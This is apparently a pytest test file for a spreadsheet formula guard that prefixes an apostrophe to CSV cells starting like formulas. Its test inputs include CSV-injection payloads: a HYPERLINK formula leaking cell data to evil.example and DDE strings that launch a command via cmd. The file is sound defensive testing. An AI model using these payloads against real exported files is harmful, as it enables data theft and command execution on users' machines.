"""The CSV formula guard: what it changes and what reading it back restores."""

from __future__ import annotations

import pytest

from domain.spreadsheet import guard_formula, unguard_formula


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert guard_formula(text) == "'" + text
    assert unguard_formula(guard_formula(text)) == text


@pytest.mark.parametrize("text", ["", "团结村财务", "2026年-预算", "'quoted", "1+1"])
def test_other_text_is_left_alone(text: str) -> None:
    assert guard_formula(text) == text
    assert unguard_formula(text) == text
